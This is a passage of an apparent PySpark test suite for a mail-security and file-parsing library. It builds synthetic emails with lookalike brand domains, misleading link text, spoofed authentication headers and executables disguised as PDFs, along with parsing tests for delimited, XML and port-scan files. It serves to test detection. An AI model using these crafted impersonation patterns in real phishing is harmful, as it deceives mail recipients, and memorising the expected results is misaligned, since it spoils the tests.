    ("run.ps1", "6162", "NULL", True, False, False, False, False), ("plain", "6162", "NULL", False, False, False, False, False), ("pic.png", "FFD8FFE0", "'image/jpeg'", False, True, False, False, False), ("tool.txt", "7F454C46", "'application/x-elf'", True, False, False, False, False),
]
_FILE_NAMES = ", ".join(f"'{f[0]}'" for f in _FILES)


@register(" UNION ALL ".join(
    f"SELECT k AS msg_sha256, '{name}' AS filename, 'application/octet-stream' AS declared, k AS size, concat('h', k) AS sha256, '{name.rpartition('.')[2] if '.' in name else ''}' AS extension, {kind} AS actual, {a} AS executable, {b} AS mismatch, {c} AS double_extension, {d} AS macro, {e} AS archive FROM {C} WHERE k % {len(_FILES)} = {i}"
    for i, (name, _, kind, a, b, c, d, e) in enumerate(_FILES)
))
def m_attachments(k):
    heads = ", ".join(f"'{f[1]}'" for f in _FILES)
    each = F.struct(F.expr(f"array({_FILE_NAMES})[k % {len(_FILES)}]").alias("name"), F.lit("application/octet-stream").alias("type"), F.col("k").alias("size"), F.expr("concat('h', k)").alias("sha256"), F.expr(f"unhex(array({heads})[k % {len(_FILES)}])").alias("head"))
    return mail.attachments(k.select(F.col("k").alias("msg_sha256"), F.array(each).alias("attachments")))


@register(f"SELECT k AS msg_sha256, concat('https://evil', k, '.test/a') AS href, 'Go to https://www.Bank.example now' AS text FROM {C} WHERE k % 3 = 0 UNION ALL SELECT k, concat('http://10.0.0.', k % 250, '/x'), 'bank.example' FROM {C} WHERE k % 3 = 1")
def m_anchor_findings(k):
    """Links whose text names their own host, or none, are let be."""
    link = lambda href, text: F.struct(F.expr(href).alias("href"), F.expr(text).alias("text"))
    lies = F.when(F.expr("k % 3 = 0"), link("concat('https://evil', k, '.test/a')", "'Go to https://www.Bank.example now'")).when(F.expr("k % 3 = 1"), link("concat('http://10.0.0.', k % 250, '/x')", "'bank.example'")).otherwise(link("'https://a.bank.example/'", "'www.bank.example'"))
    return mail.anchor_findings(k.select(F.col("k").alias("msg_sha256"), F.array(lies, link("'https://b.test/'", "'click here'")).alias("anchors")))


@register(f"SELECT k, CASE k % 7 WHEN 0 THEN 'paypal.com' WHEN 1 THEN 'microsoft.com' WHEN 2 THEN 'google.com' WHEN 5 THEN 'amazon.com' WHEN 6 THEN 'dropbox.com' END AS brand FROM {C}")
def j17_planted_lookalikes(k):
    """By characters, part of a name, label and edits; other names and a brand's own host imitate nothing."""
    domain = F.expr("CASE k % 7 WHEN 0 THEN 'paypa1.com' WHEN 1 THEN concat('microsoft-login', k, '.net') WHEN 2 THEN 'g00gle.co.uk' WHEN 3 THEN concat('shop', k, '.test') WHEN 4 THEN 'www.amazon.com' WHEN 5 THEN concat('amazon.evil', k, '.test') ELSE 'dropboxx.com' END")
    return k.select("k", mail.lookalike(domain).alias("brand"))


#: Factor: when it holds, for the mails of j18.
_FACTORS = {
    "dmarc_fail": "k % 6 = 0", "spf_fail": "k % 2 = 0", "auth_for_other_identity": "k % 10 = 3", "reply_to_mismatch": "k % 3 = 0", "display_name_impersonation": "k % 4 = 0", "lookalike_or_new_domain": "(k % 4 = 0 OR k % 13 = 0)", "malicious_url_reputation": "k % 19 = 0",
    "bad_sender_ip_reputation": "k % 29 = 0", "executable_attachment": "(k % 5 = 0 OR (k % 5 = 1 AND k % 23 = 0))", "extension_mime_mismatch": "k % 5 = 0", "link_text_lies": "k % 7 = 0", "url_to_bare_ip": "k % 11 = 0", "no_dmarc_record": "(k % 4 > 0 AND k % 17 = 0)",
}
_SCORE = f"least(100, {' + '.join(f'CASE WHEN {test} THEN {mail.WEIGHTS[name]} ELSE 0 END' for name, test in _FACTORS.items())})"


@register(f"SELECT k AS msg_sha256, {', '.join(f'{test} AS {name}' for name, test in _FACTORS.items())}, ({_SCORE})::INT AS score, CASE WHEN {_SCORE} >= 60 THEN 'HIGH' WHEN {_SCORE} >= 30 THEN 'MEDIUM' WHEN {_SCORE} > 0 THEN 'LOW' ELSE 'NONE OBSERVED' END AS level FROM {C}")
def j18_mail_facts(k):
    """Every factor from messages and reference tables, and the score of them."""
    own = "CASE WHEN k % 4 = 0 THEN 'paypa1.com' ELSE concat('corp', k, '.example') END"
    rows = _mails(
        k, ("From", f"CASE WHEN k % 4 = 0 THEN 'PayPal <x@paypa1.com>' ELSE concat('Bob <bob@', {own}, '>') END"), ("Reply-To", "CASE WHEN k % 3 = 0 THEN 'x@evil.test' END"), ("Received", said("from m [9.9.«k % 29».9] by mx.example with SMTP; Mon, 1 Jan 2024 09:59:00 +0000")),
        ("Authentication-Results", said(f"mx; spf=«CASE WHEN k % 2 = 0 THEN 'fail' ELSE 'pass' END» smtp.mailfrom=a@«{own}»; dkim=pass header.d=«CASE WHEN k % 10 = 3 THEN 'other.test' ELSE {own} END»; dmarc=«CASE WHEN k % 6 = 0 THEN 'fail' ELSE 'pass' END» header.from=«{own}»")),
    )
    body = F.expr("concat('hello ', CASE WHEN k % 11 = 0 THEN 'http://10.1.2.3/x ' ELSE '' END, CASE WHEN k % 19 = 0 THEN 'http://evil.test/b' ELSE '' END)")
    file = F.struct(F.expr("CASE WHEN k % 5 = 0 THEN 'bill.pdf' ELSE 'note.pdf' END").alias("name"), F.lit("application/pdf").alias("type"), F.col("k").alias("size"), F.expr("concat('h', k)").alias("sha256"), F.expr("unhex(CASE WHEN k % 5 = 0 THEN '4D5A' ELSE '25504446' END)").alias("head"))
    link = F.struct(F.expr("CASE WHEN k % 7 = 0 THEN 'https://evil2.test/' ELSE 'https://bank.example/' END").alias("href"), F.lit("www.bank.example").alias("text"))
    whole = rows.select("msg_sha256", "headers", body.alias("plain"), F.lit("<p>x</p>").alias("html"), F.array(link).alias("anchors"), F.when(F.expr("k % 5 < 2"), F.array(file)).otherwise(F.slice(F.array(file), 1, 0)).alias("attachments"))
    other = k.where("k % 4 > 0").withColumn("domain", F.expr("concat('corp', k, '.example')"))
    facts = mail.mail_facts(
        whole, ages=other.selectExpr("domain", "CASE WHEN k % 13 = 0 THEN 30 ELSE 3000 END AS age_days"), dns=other.where("k % 17 < 2").selectExpr("domain", "CASE WHEN k % 17 = 1 THEN 'v=DMARC1' END AS dmarc_record"),
        urls=k.where("k = 1").selectExpr("'evil.test' AS host", "3 AS malicious"), ips=k.where("k < 29").selectExpr("concat('9.9.', k, '.9') AS ip", "CASE WHEN k = 0 THEN 90 ELSE 10 END AS confidence", "0 AS malicious"), hashes=k.where("k % 5 = 1").selectExpr("concat('h', k) AS sha256", "CASE WHEN k % 23 = 0 THEN 2 ELSE 0 END AS malicious"),
    )
    told = facts.select("msg_sha256", *[F.coalesce(F.col(name), F.lit(False)).alias(name) for name in _FACTORS])
    return told.join(mail.mail_score(told).select("msg_sha256", "score", "level"), "msg_sha256")


# -- files: the texts are written to the shared folder and read back by their source


def written(texts: DataFrame, *by: str) -> str:
    """The folder that a column of text was written to, one line a row, in folders by the other columns."""
    at = f"{shared_folder(texts.sparkSession)}/evidence-{uuid.uuid4().hex}"
    (texts.write.partitionBy(*by) if by else texts.write).text(at)
    return at


def wrapped(k: DataFrame, item: str, root: str) -> DataFrame:
    """(part, value): documents of at most a thousand items under one root."""
    each = k.selectExpr("k div 1000 AS part", f"{item} AS item").groupBy("part").agg(F.array_join(F.collect_list("item"), "").alias("items"))
    return each.select("part", F.concat(F.lit(f"<{root}>"), "items", F.lit(f"</{root}>")).alias("value"))


@register(f"SELECT concat(k, '') AS \"_c0\", concat('name, ', k) AS \"_c1\", CASE WHEN k % 5 > 0 THEN concat(k % 7, '') END AS \"_c2\", k % 5 < 2 AS ragged FROM {C}")
def s01_delimited(k):
    """Every fifth row is short, every fifth is long; both stay and are marked."""
    rows = k.selectExpr(f"""CASE k % 5 WHEN 0 THEN {said('«k»;"name, «k»"')} WHEN 1 THEN {said('«k»;"name, «k»";«k % 7»;more')} ELSE {said('«k»;"name, «k»";«k % 7»')} END AS value""")
    df = files.load_delimited(k.sparkSession, written(rows), ";", False)
    return df.select("_c0", "_c1", "_c2", F.col("_corrupt").isNotNull().alias("ragged"))


@register(f"SELECT k, v AS name FROM (SELECT k, concat('n', k % 9) AS v FROM {C} WHERE k % 4 > 0)")
def s07_ndjson(k):
    """Lines with commas at their end count; brackets, broken lines and lines with more than one value don't."""
    at = written(k.selectExpr(f"""CASE k % 4 WHEN 0 THEN CASE k % 3 WHEN 0 THEN '[' WHEN 1 THEN {said('{"k":«k»')} ELSE {said('{"k":«k»} x')} END ELSE {said('{"k":«k»,"n":"n«k % 9»"}, ')} END AS value"""))
    rows = files.read_ndjson(k.sparkSession, at)
    return rows.select(S.json_path(F.col("json"), "k").cast("long").alias("k"), S.json_path(F.col("json"), "n").alias("name"))


@register(f"SELECT concat('http://h', k, '.example/a?b=1&c=2') AS url, 'POST' AS method, concat(200 + k % 5, '') AS status, concat('h', k, '.example') AS host, concat('10.0.0.', k % 250) AS host_ip, concat('POST /a HTTP/1.1', chr(13), chr(10), chr(13), chr(10), 'id=', k) AS request, CASE WHEN k % 2 = 0 THEN concat('plain ', k) END AS response FROM {C}")
def s14_http_xml(k):
    whole = said("POST /a HTTP/1.1\r\n\r\nid=«k»")
    item = said(f'<item><time>t</time><url><![CDATA[http://h«k».example/a?b=1&c=2]]></url><host ip="10.0.0.«k % 250»">h«k».example</host><port>80</port><method>POST</method><status>«200 + k % 5»</status><request base64="true">«base64(cast({whole} as binary))»</request>«CASE WHEN k % 2 = 0 THEN concat(\'<response base64="false">plain \', k, \'</response>\') ELSE \'\' END»</item>')
    return files.read_http_xml(k.sparkSession, written(wrapped(k, item, "items"), "part")).select("url", "method", "status", "host", "host_ip", "request", "response")


@register(f"""SELECT concat('10.0.0.', k) AS address, CASE WHEN k % 2 = 0 THEN concat('h', k, '.example') END AS hostname, 'tcp' AS protocol, (k % 1000 + 1)::INT AS port, 'open' AS state, 'http' AS service FROM {C}
    UNION ALL SELECT concat('10.0.0.', k), CASE WHEN k % 2 = 0 THEN concat('h', k, '.example') END, 'udp', 53, 'closed', NULL FROM {C}""")
def s20_portscan_xml(k):
    name = "CASE WHEN k % 2 = 0 THEN concat('<hostnames><hostname name=\"h', k, '.example\" type=\"PTR\"/><hostname name=\"z\"/></hostnames>') ELSE '' END"
    host = said(f'<host><status state="up"/><address addr="10.0.0.«k»" addrtype="ipv4"/><address addr="02:00" addrtype="mac"/>«{name}»<ports><port protocol="tcp" portid="«k % 1000 + 1»"><state state="open"/><service name="http"/></port><port protocol="udp" portid="53"><state state="closed"/></port></ports></host>')
    return files.read_portscan_xml(k.sparkSession, written(wrapped(k, host, "scan"), "part"))


@register(f"SELECT k % 5 AS part, count(*) AS n, sum(k)::BIGINT AS total FROM {C} GROUP BY ALL")
def s11_read_lines(k):
    """Lines of files, by the folder they lie in."""
    rows = files.read_lines(k.sparkSession, written(k.selectExpr("k % 5 AS part", "concat('', k) AS value"), "part"))
    return rows.groupBy(F.regexp_extract("path", r"part=(\d+)", 1).cast("long").alias("part")).agg(F.count("*").alias("n"), F.sum(F.col("text").cast("long")).alias("total"))


#: Kind of file: its first lines, less the key.
_SHAPES = {"delimited": "«k»,b,c\n1,2,3", "ndjson": '{"a":«k»}\n{"a":2}', "json": '[\n{"a":«k»}]', "xml": "<?xml version=§1.0§?>\n<a>«k»</a>", "html": "<!doctype html>\n<p>«k»", "http-xml": "<?xml version=§1.0§?>\n<items>«k»</items>", "text": "words of «k»\nand more"}


@register(" UNION ALL ".join(f"SELECT {i}::BIGINT AS part, '{name}' AS format FROM (SELECT 1 FROM {C} LIMIT 1)" for i, name in enumerate(_SHAPES)))
def s12_classify_files(k):
    """A file of each kind, its lines made of the smallest key of its class."""
    first = k.groupBy((F.col("k") % len(_SHAPES)).alias("part")).agg(F.min("k").alias("k"))
    text = " ".join(f"WHEN {i} THEN {said(t.replace('§', chr(34)))}" for i, t in enumerate(_SHAPES.values()))
    found = files.classify_files(k.sparkSession, written(first.selectExpr("part", f"CASE part {text} END AS value"), "part"))
    return found.select(F.regexp_extract("path", r"part=(\d+)", 1).cast("long").alias("part"), "format")
